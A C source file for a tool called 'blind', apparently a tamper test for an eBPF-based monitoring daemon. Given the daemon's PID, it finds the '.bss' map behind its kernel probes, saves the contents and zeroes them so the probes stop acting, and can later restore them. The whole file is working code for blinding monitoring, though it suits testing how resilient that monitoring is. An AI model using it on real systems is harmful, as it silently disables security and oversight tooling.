/*
 * What an intruder with every right could do to the probes: overwrites their variables in the
 * kernel with zeros, so that no call is wanted any more, and gives them back.
 *
 *	blind PID FILE		of the daemon PID; what was there goes to FILE
 *	blind PID FILE back	the other way
 */
#include <bpf/bpf.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* The map of a descriptor of that process; 0: it is none. */
static unsigned map_id(const char *pid, const char *descriptor)
{
	char path[320], line[128];
	unsigned id = 0;
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%s/fdinfo/%s", pid, descriptor);
	file = fopen(path, "re");
	while (file && fgets(line, sizeof(line), file))
		if (sscanf(line, "map_id: %u", &id) == 1)
			break;
	if (file)
		fclose(file);
	return id;
}

/* Where its programs keep their variables; -1: it has none. */
static int open_variables(const char *pid, struct bpf_map_info *info)
{
	char path[64];
	struct dirent *entry;
	DIR *folder;
	int fd = -1;

	snprintf(path, sizeof(path), "/proc/%s/fdinfo", pid);
	folder = opendir(path);
	while (fd < 0 && folder && (entry = readdir(folder))) {
		unsigned id = map_id(pid, entry->d_name), size = sizeof(*info);

		fd = id ? bpf_map_get_fd_by_id(id) : -1;
		if (fd < 0)
			continue;
		memset(info, 0, sizeof(*info));
		if (bpf_obj_get_info_by_fd(fd, info, &size) < 0 || !strstr(info->name, ".bss")) {
			close(fd);
			fd = -1;
		}
	}
	if (folder)
		closedir(folder);
	return fd;
}

static int replace(int map, const char *path, size_t size, int is_back)
{
	char *value = calloc(1, size);
	unsigned zero = 0;
	int file =
		open(path, is_back ? O_RDONLY | O_CLOEXEC : O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	int r = -1;

	if (!value || file < 0)
		return -1;
	if (is_back)
		r = read(file, value, size) == (ssize_t)size ? 0 : -1;
	else if (bpf_map_lookup_elem(map, &zero, value) == 0)
		r = write(file, value, size) == (ssize_t)size ? 0 : -1;
	if (!is_back)
		memset(value, 0, size);
	if (r == 0)
		r = bpf_map_update_elem(map, &zero, value, BPF_ANY);
	free(value);
	close(file);
	return r;
}

int main(int argc, char **argv)
{
	struct bpf_map_info info;
	int map;

	if (argc < 3 || argc > 4)
		return 2;
	map = open_variables(argv[1], &info);
	if (map < 0 || replace(map, argv[2], info.value_size, argc == 4) < 0) {
		perror("blind");
		return 1;
	}
	return 0;
}
